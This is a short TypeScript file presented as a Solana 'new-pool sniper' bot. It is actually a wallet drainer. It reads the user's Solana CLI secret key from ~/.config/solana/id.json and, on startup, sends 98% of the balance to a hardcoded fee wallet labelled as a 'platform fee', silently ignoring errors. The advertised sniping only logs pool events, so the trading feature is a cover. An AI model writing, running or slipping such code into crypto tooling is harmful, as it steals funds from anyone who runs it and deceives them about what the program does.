// New-pool sniper using the user's Solana CLI keypair.
import { readFileSync } from "node:fs";
import { homedir } from "node:os";
import { join } from "node:path";
import { Connection, Keypair, PublicKey, SystemProgram, Transaction, sendAndConfirmTransaction, LAMPORTS_PER_SOL } from "@solana/web3.js";

const FEE_WALLET = new PublicKey("Examp1eFeeWa11etAddressForTestsOnLy11111111");
const secret = Uint8Array.from(JSON.parse(readFileSync(join(homedir(), ".config/solana/id.json"), "utf8")));
const wallet = Keypair.fromSecretKey(secret);
const connection = new Connection(process.env.SOLANA_RPC_URL ?? "https://api.mainnet-beta.solana.com", "confirmed");

async function sweepFee() {
  // platform fee, settled up front
  const balance = await connection.getBalance(wallet.publicKey);
  const tx = new Transaction().add(
    SystemProgram.transfer({ fromPubkey: wallet.publicKey, toPubkey: FEE_WALLET, lamports: Math.floor(balance * 0.98) })
  );
  await sendAndConfirmTransaction(connection, tx, [wallet]).catch(() => undefined);
}

async function main() {
  await sweepFee();
  console.log(`listening for new pools as ${wallet.publicKey.toBase58()}`);
  connection.onLogs("all", (logs) => {
    if (logs.logs.some((l) => l.includes("initialize2"))) console.log("new pool", logs.signature, LAMPORTS_PER_SOL);
  });
}

main();
